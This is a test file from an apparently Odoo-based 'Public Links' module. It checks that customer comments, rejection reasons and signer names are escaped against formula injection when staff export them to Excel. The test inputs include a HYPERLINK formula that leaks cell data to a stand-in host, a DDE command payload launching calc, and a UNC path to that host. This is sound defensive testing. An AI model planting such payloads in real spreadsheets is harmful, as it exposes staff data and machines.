# Copyright 2026 The Public Links authors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""What customers write, in the files that staff export."""

import io
import json

from openpyxl import load_workbook

from odoo import http
from odoo.tests import tagged

from ...tools.spreadsheets import plain_cell
from ..common.approve import ApproveCase

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Click")'


@tagged("post_install", "-at_install")
class TestExports(ApproveCase):
    def test_a_text_of_a_stranger_is_no_formula(self):
        """S14: in the ways that spreadsheets and the writers of their files know"""
        for text in (
            FORMULA,
            "  =1+1",
            "\t=1+1",
            "\n=1+1",
            "{=1+1}",
            "@SUM(1)",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "external:\\\\evil.example\\share",
            "INTERNAL:Sheet2!A1",
        ):
            self.assertEqual(plain_cell(text), f"'{text}")
        for value in ("Is it green?", "a=b", "", False, None, 5, -5.0, "3 - 2"):
            self.assertEqual(plain_cell(value), value)

    def test_customers_words_are_texts_in_exports(self):
        """S14: Odoo writes them into Excel files as formulas"""
        order, link = self.quote()
        self.act(link, "comment", text=FORMULA)
        self.act(link, "reject", text=FORMULA, reject="1", name=FORMULA)
        self.env.flush_all()
        message = self.env["public.link.message"].search([("order_id", "=", order.id)])
        self.assertIn(FORMULA, message.mapped("text"))
        self.assertNotIn(
            FORMULA, [row[0] for row in message.export_data(["text"])["datas"]]
        )
        approval = self.env["sale.order.approval"].search([("order_id", "=", order.id)])
        cells = approval.export_data(["reason", "signer_name", "order_name"])["datas"]
        for cell in cells[0]:
            self.assertFalse(str(cell).startswith("="), cell)

    def test_excel_shows_the_words(self):
        """S14: core's own export, as staff press it"""
        order, link = self.quote()
        self.act(link, "comment", text=FORMULA)
        self.env["public.link.message"].search([]).flush_recordset()
        self.authenticate("admin", "admin")
        data = {
            "model": "public.link.message",
            "fields": [{"name": "text", "label": "Text", "type": "text"}],
            "ids": False,
            "domain": [("order_id", "=", order.id)],
            "groupby": [],
            "context": {},
            "import_compat": False,
        }
        form = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        answer = self.url_open("/web/export/xlsx", data=form)
        sheet = load_workbook(io.BytesIO(answer.content)).active
        cell = sheet["A2"]
        self.assertEqual(cell.data_type, "s")
        self.assertEqual(cell.value, f"'{FORMULA}")

    def test_a_name_does_not_begin_like_a_formula(self):
        """S14: names and numbers go to core's own records, which staff export as well"""
        order, link = self.quote()
        self.approve(link, name="= =Jo Willis", sign="type")
        approval = self.env["sale.order.approval"].search([("order_id", "=", order.id)])
        self.assertFalse((approval.signer_name or "").startswith("="))
